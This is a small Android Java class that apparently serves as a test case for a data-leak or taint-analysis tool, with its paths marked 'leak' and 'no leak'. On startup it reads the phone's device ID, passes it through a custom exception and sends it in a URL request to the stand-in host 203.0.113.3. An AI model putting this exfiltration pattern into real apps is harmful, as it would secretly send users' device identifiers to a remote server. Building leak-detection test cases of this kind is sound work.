package habits;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.net.URL;

/** Exceptions that carry what was found. */
public class Carried extends Activity {
    static class Found extends Exception {
        private final Object payload;

        Found(Object payload) {
            this.payload = payload;
        }

        Object payload() {
            return payload;
        }
    }

    static class Missing extends Found {
        Missing() {
            super("nothing");
        }
    }

    private void look(boolean really) throws Found {
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        if (really) throw new Found(phone.getDeviceId());
        throw new Missing();
    }

    @Override
    protected void onCreate(Bundle state) {
        try {
            look(true);
        } catch (Found found) {
            send("f", found); // (here)
        }
        try {
            look(false);
        } catch (Missing missing) {
            try {
                new URL("http://203.0.113.3/m/" + missing.payload()).openStream(); // no leak
            } catch (Exception ignored) {
            }
        } catch (Found ignored) {
        }
    }

    private void send(String path, Found found) {
        try {
            new URL("http://203.0.113.3/" + path + "/" + found.payload()).openStream(); // leak
        } catch (Exception ignored) {
        }
    }
}
